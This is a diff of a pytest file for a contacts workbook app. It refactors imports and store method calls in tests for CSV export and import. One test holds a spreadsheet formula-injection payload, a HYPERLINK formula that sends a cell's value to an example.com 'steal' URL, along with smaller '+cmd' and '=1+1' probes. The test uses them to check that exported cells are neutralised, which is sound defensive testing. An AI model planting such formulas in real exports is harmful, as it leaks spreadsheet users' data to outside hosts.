@@ -4,9 +4,10 @@ import csv
 
 import pytest
 
+from workbook.domain.contacts import Contact
+from workbook.domain.exchanges import Exchange
 from workbook.formats import apply_import, export_csv, plan_import
 from workbook.formats.csvfile import inert, paths, restored
-from workbook.model import Contact, Exchange
 from workbook.sample import populate
 from workbook.store import Store
 
@@ -20,11 +21,11 @@ def test_two_files_beside_the_path(store, tmp_path):
     populate(store)
     message = export_csv(store, tmp_path / "mine.csv")
     contacts, exchanges = tmp_path / "mine-contacts.csv", tmp_path / "mine-exchanges.csv"
-    assert message == f"Wrote 40 contacts to {contacts} and {len(store.records('exchanges'))} exchanges to {exchanges}"
+    assert message == f"Wrote 40 contacts to {contacts} and {len(store.backup.records('exchanges'))} exchanges to {exchanges}"
     assert contacts.read_bytes().startswith(b"\xef\xbb\xbfid,name,circle,")
     assert len(read_rows(contacts)) == 40
     first = read_rows(exchanges)[0]
-    assert first["contact"] == store.get_contact(int(first["contact_id"])).name
+    assert first["contact"] == store.contacts.get(int(first["contact_id"])).name
     assert paths(tmp_path / "mine") == (contacts, exchanges)
 
 
@@ -41,8 +42,8 @@ def test_other_cells_are_left_alone(value):
 
 def test_formula_injection_is_neutralised_in_both_files(store, tmp_path):
     evil = '=HYPERLINK("http://example.com/steal?"&A1,"click")'
-    who = store.add_contact(Contact("@evil", "both", company=evil, notes="-2+3", interests="+cmd"))
-    store.log_exchange(Exchange(who, "gave", "advice", store.today(), note="=1+1"))
+    who = store.contacts.add(Contact("@evil", "both", company=evil, notes="-2+3", interests="+cmd"))
+    store.exchanges.log(Exchange(who, "gave", "advice", store.today(), note="=1+1"))
     export_csv(store, tmp_path / "out")
     [contact] = read_rows(tmp_path / "out-contacts.csv")
     assert (contact["name"], contact["company"], contact["notes"], contact["interests"]) == (
@@ -53,11 +54,11 @@ def test_formula_injection_is_neutralised_in_both_files(store, tmp_path):
 
 
 def test_the_contacts_file_reads_back_without_the_quotes(store, tmp_path):
-    store.add_contact(Contact("=Ana", "personal", company="@Acme", notes="'already quoted"))
+    store.contacts.add(Contact("=Ana", "personal", company="@Acme", notes="'already quoted"))
     export_csv(store, tmp_path / "out.csv")
     other = Store(tmp_path / "other.sqlite3")
     report = apply_import(plan_import(tmp_path / "out-contacts.csv", None, other), other)
-    [ana] = other.records("contacts")
+    [ana] = other.backup.records("contacts")
     other.close()
     assert report.kind == "workbook-csv"
     assert (ana["name"], ana["company"], ana["notes"], ana["circle"]) == ("=Ana", "@Acme", "'already quoted", "personal")
